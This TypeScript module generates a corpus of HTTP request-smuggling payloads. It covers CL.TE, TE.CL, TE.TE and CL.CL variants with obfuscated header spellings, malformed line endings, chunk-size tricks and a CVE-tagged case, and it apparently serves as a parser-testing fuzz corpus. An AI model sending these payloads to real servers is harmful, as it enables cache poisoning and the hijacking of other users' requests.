/** A request within another: what a server makes of it that takes the end of the first to be elsewhere. */
export const SMUGGLED = 'GET /smuggled HTTP/1.1\r\nHost: door\r\n\r\n';

const TE = 'Transfer-Encoding';
const MARKS =
  '\0¦\x01¦\b¦\t¦\n¦\x0b¦\f¦\r¦\x1f¦ ¦\x7f¦\x80¦\x85¦\xa0¦\xff¦"¦,¦;¦:¦_¦\r\n ¦\r\n\t¦\n ¦\r ¦\r\r\n¦\n\r'.split('¦');

/** Spellings of `Transfer-Encoding: chunked` that some server takes for it, and some other not. */
const CODINGS: readonly string[] = [
  ...MARKS.flatMap((mark) => [
    `${mark}${TE}: chunked`,
    `${TE}${mark}: chunked`,
    `${TE}:${mark}chunked`,
    `${TE}: chunked${mark}`,
    `Transfer${mark}Encoding: chunked`,
    `X: y${mark}${TE}: chunked`,
  ]),
  ...'xchunked¦chunke¦chunkedx¦CHUNKED¦"chunked"¦¦identity¦1¦x, chunked¦chunked, identity¦chunked, chunked¦gzip, chunked¦chunked x'
    .split('¦')
    .map((coding) => `${TE}: ${coding}`),
];

/** Spellings of a length, N, of which two servers may make two. */
const LENGTHS =
  '+N¦-N¦0xN¦N.0¦N,¦,N¦N, N¦N N¦0N¦00N¦ N¦N\t¦Ne0¦N;¦"N"¦N_0¦\x0bN¦N\0¦N\r\n ¦\r\n N¦1844674407370955N¦' +
  'N\r\nContent-Length: 0¦0\r\nContent-Length: N¦N\r\nContent-Length: N';

/** Whole requests with one more in them: CL.TE, TE.CL and TE.TE for each coding, CL.CL for each length, and others. */
export function smugglingCorpus(): [name: string, text: string][] {
  const chunk = `${SMUGGLED.length.toString(16)}\r\n${SMUGGLED}\r\n0\r\n\r\n`;
  const last = `0\r\n\r\n${SMUGGLED}`;
  const post = (fields: string, body: string): string => `POST / HTTP/1.1\r\nHost: door\r\n${fields}\r\n\r\n${body}`;
  return [
    ...CODINGS.flatMap((coding): [string, string][] => [
      [`CL.TE ${coding}`, post(`Content-Length: ${last.length}\r\n${coding}`, last)],
      [`TE.CL ${coding}`, post(`${coding}\r\nContent-Length: 4`, chunk)],
      [`TE.TE ${coding}`, post(`${TE}: chunked\r\n${coding}`, last)],
      [`TE.0 ${coding}`, post(coding, chunk)],
    ]),
    ...LENGTHS.split('¦').map((length): [string, string] => [
      `CL.CL ${length}`,
      post(`Content-Length: ${length.replaceAll('N', String(SMUGGLED.length))}`, SMUGGLED),
    ]),
    ...OTHERS.map(([name, text]): [string, string] => [name, text.replaceAll('@', SMUGGLED)]),
  ];
}

const HEAD = 'Host: door\r\n';
/** @: a request */
const OTHERS: readonly (readonly [name: string, text: string])[] = [
  ['LF only', 'GET / HTTP/1.1\nHost: door\n\n@'],
  ['CR only', 'GET / HTTP/1.1\rHost: door\r\r@'],
  ['LF CR', 'GET / HTTP/1.1\n\rHost: door\n\r\n\r@'],
  // CVE-2025-23167: a header that ends with CR LF CR and another character
  ['CR LF CR X', `GET / HTTP/1.1\r\n${HEAD}\rX: y\r\n\r\n@`],
  ['CR LF CR X behind a length', `POST / HTTP/1.1\r\n${HEAD}Content-Length: 0\r\n\rX@\r\n\r\n`],
  ['a folded line', `GET / HTTP/1.1\r\n${HEAD}X: y\r\n @\r\n`],
  ['a fold of the first line', 'GET /\r\n HTTP/1.1\r\nHost: door\r\n\r\n@'],
  ['NUL in a name', `GET / HTTP/1.1\r\n${HEAD}X\0: @`],
  ['NUL in the line', `GET /\0 HTTP/1.1\r\n${HEAD}\r\n@`],
  ['a request in the path', `GET /?a HTTP/1.1\r\nX: GET /smuggled HTTP/1.1\r\n${HEAD}\r\n`],
  ['CR LF encoded in the path', `GET /%0d%0a%0d%0aGET%20/smuggled%20HTTP/1.1 HTTP/1.1\r\n${HEAD}\r\n`],
  ['absolute-form with another Host', `GET http://door/ HTTP/1.1\r\nHost: other\r\nContent-Length: 0\r\n\r\n`],
  ['absolute-form with a request in it', `GET http://door/@ HTTP/1.1\r\n${HEAD}\r\n`],
  [
    'an expectation and a coding',
    `POST / HTTP/1.1\r\n${HEAD}Expect: 100-continue\r\nContent-Length: 4\r\n${TE}: chunked\r\n\r\n0\r\n\r\n@`,
  ],
  ['a mangled expectation', `POST / HTTP/1.1\r\n${HEAD}Expect: y 100-continue\r\nContent-Length: 0\r\n\r\n`],
  ['an expectation of a GET', `GET / HTTP/1.1\r\n${HEAD}Expect: 100-continue\r\nContent-Length: 5\r\n\r\nabcde`],
  ['CONNECT', `CONNECT door:80 HTTP/1.1\r\n${HEAD}\r\n@`],
  ['HTTP/0.9', 'GET /\r\n@'],
  ['an HTTP/2 preface', `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n@`],
  ['HTTP/1.0 with a coding', `POST / HTTP/1.0\r\n${HEAD}${TE}: chunked\r\n\r\n0\r\n\r\n@`],
  ['a size with an extension of LF', `POST / HTTP/1.1\r\n${HEAD}${TE}: chunked\r\n\r\n5;\nabcde\r\n0\r\n\r\n@`],
  ['a size with an extension of CR', `POST / HTTP/1.1\r\n${HEAD}${TE}: chunked\r\n\r\n5;\rabcde\r\n0\r\n\r\n@`],
  ['a chunk without its end', `POST / HTTP/1.1\r\n${HEAD}${TE}: chunked\r\n\r\n5\r\nabcde0\r\n\r\n@`],
  ['a chunk with two bytes for its end', `POST / HTTP/1.1\r\n${HEAD}${TE}: chunked\r\n\r\n5\r\nabcdeXX0\r\n\r\n@`],
  ['a size that overflows', `POST / HTTP/1.1\r\n${HEAD}${TE}: chunked\r\n\r\nfffffffffffffffe0\r\n\r\n0\r\n\r\n@`],
  ['a size of zeros', `POST / HTTP/1.1\r\n${HEAD}${TE}: chunked\r\n\r\n0000000000000000000\r\n\r\n`],
  ['a length among the trailers', `POST / HTTP/1.1\r\n${HEAD}${TE}: chunked\r\n\r\n0\r\nContent-Length: 37\r\n\r\n@`],
  ['a coding among the trailers', `POST / HTTP/1.1\r\n${HEAD}${TE}: chunked\r\n\r\n0\r\n${TE}: chunked\r\n\r\n`],
  [
    'a WebSocket with a length',
    `GET / HTTP/1.1\r\n${HEAD}Connection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: 5\r\n\r\nabcde`,
  ],
  [
    'a WebSocket and a request behind it',
    `GET / HTTP/1.1\r\n${HEAD}Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n@`,
  ],
  [
    'a WebSocket of another version',
    `GET / HTTP/1.1\r\n${HEAD}Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777\r\n\r\n@`,
  ],
];
